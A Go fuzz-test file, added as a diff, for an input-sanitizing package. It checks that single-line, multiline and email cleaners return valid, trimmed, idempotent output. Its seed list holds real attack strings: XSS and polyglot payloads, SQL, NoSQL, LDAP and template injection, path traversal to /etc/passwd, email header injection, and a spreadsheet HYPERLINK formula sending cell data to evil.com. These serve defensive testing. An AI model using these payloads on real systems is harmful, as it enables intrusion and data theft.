@@ -0,0 +1,125 @@
+package sanitizex
+
+import (
+	"strings"
+	"testing"
+	"unicode"
+	"unicode/utf8"
+)
+
+// injectionVectors seed the fuzz targets with the payloads of the security
+// test tables of the registration and auth suites.
+var injectionVectors = []string{
+	"",
+	"   leading and trailing   ",
+	"John\r\n\r\n<script>alert(1)</script>",
+	"test@test.com\r\nBcc:attacker@evil.com",
+	"test@test.com\x00",
+	"STU001\x00admin",
+	"STU\xc0\xbc001",
+	"John\u200B\u200CSmith",
+	"\uff21\uff24\uff2d\u0130\uff2e",
+	"\u0430dmin@test.com",
+	"e\u0301\u0000\u0301",
+	"\u0085line separated text\u007f",
+	"tab\tand\vvertical\ftab",
+	"'; DROP TABLE users; --",
+	"John' UNION SELECT username, password FROM users--",
+	"{\"$ne\":null}@test.com",
+	"*)(uid=*))(|(uid=*@test.com",
+	"..%252f..%252f..%252fetc%252fpasswd",
+	"=HYPERLINK(\"http://evil.com?data=\"&A1&A2,\"Click\")",
+	"{{ config.items() }}",
+	"jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//",
+	"user@Bücher.example",
+}
+
+func isControl(r rune) bool {
+	return r == '\u007f' || unicode.IsControl(r)
+}
+
+func FuzzCleanSingleLine(f *testing.F) {
+	for _, v := range injectionVectors {
+		f.Add(v)
+	}
+
+	f.Fuzz(func(t *testing.T, s string) {
+		got := CleanSingleLine(s)
+
+		if !utf8.ValidString(got) {
+			t.Fatalf("CleanSingleLine(%q) = %q is not valid UTF-8", s, got)
+		}
+		if strings.ContainsFunc(got, isControl) {
+			t.Fatalf("CleanSingleLine(%q) = %q contains control characters", s, got)
+		}
+		if got != strings.TrimSpace(got) {
+			t.Fatalf("CleanSingleLine(%q) = %q is not trimmed", s, got)
+		}
+		if strings.Contains(got, "  ") || strings.ContainsFunc(got, func(r rune) bool { return r != ' ' && unicode.IsSpace(r) }) {
+			t.Fatalf("CleanSingleLine(%q) = %q has whitespace other than single spaces", s, got)
+		}
+		if again := CleanSingleLine(got); again != got {
+			t.Fatalf("CleanSingleLine is not idempotent for %q: %q then %q", s, got, again)
+		}
+	})
+}
+
+func FuzzCleanMultiline(f *testing.F) {
+	for _, v := range injectionVectors {
+		f.Add(v)
+	}
+	f.Add("line one  \n\t line two\t\n\n  ")
+
+	f.Fuzz(func(t *testing.T, s string) {
+		got := CleanMultiline(s)
+
+		if !utf8.ValidString(got) {
+			t.Fatalf("CleanMultiline(%q) = %q is not valid UTF-8", s, got)
+		}
+		if strings.ContainsFunc(got, func(r rune) bool { return r != '\n' && r != '\t' && isControl(r) }) {
+			t.Fatalf("CleanMultiline(%q) = %q contains control characters", s, got)
+		}
+		for i, line := range strings.Split(got, "\n") {
+			if line != strings.TrimSpace(line) {
+				t.Fatalf("CleanMultiline(%q) = %q, line %d is not trimmed", s, got, i)
+			}
+		}
+		if again := CleanMultiline(got); again != got {
+			t.Fatalf("CleanMultiline is not idempotent for %q: %q then %q", s, got, again)
+		}
+	})
+}
+
+func FuzzNormalizeEmail(f *testing.F) {
+	for _, v := range injectionVectors {
+		f.Add(v)
+	}
+	f.Add("Foo@Bar.COM")
+	f.Add("a+b@test.com")
+	f.Add("admin@\u0430pple.com")
+
+	f.Fuzz(func(t *testing.T, s string) {
+		got, err := NormalizeEmail(s)
+		if err != nil {
+			if got != "" {
+				t.Fatalf("NormalizeEmail(%q) returned %q with error %v", s, got, err)
+			}
+			return
+		}
+
+		if strings.ContainsFunc(got, isControl) || strings.ContainsFunc(got, unicode.IsSpace) {
+			t.Fatalf("NormalizeEmail(%q) = %q contains control characters or spaces", s, got)
+		}
+		at := strings.LastIndexByte(got, '@')
+		if at <= 0 || at == len(got)-1 {
+			t.Fatalf("NormalizeEmail(%q) = %q has no local part or domain", s, got)
+		}
+		if domain := got[at+1:]; domain != strings.ToLower(domain) || strings.ContainsFunc(domain, func(r rune) bool { return r > unicode.MaxASCII }) {
+			t.Fatalf("NormalizeEmail(%q) = %q, the domain is not lowercase ASCII", s, got)
+		}
+		again, err := NormalizeEmail(got)
+		if err != nil || again != got {
+			t.Fatalf("NormalizeEmail is not idempotent for %q: %q then %q, %v", s, got, again, err)
+		}
+	})
+}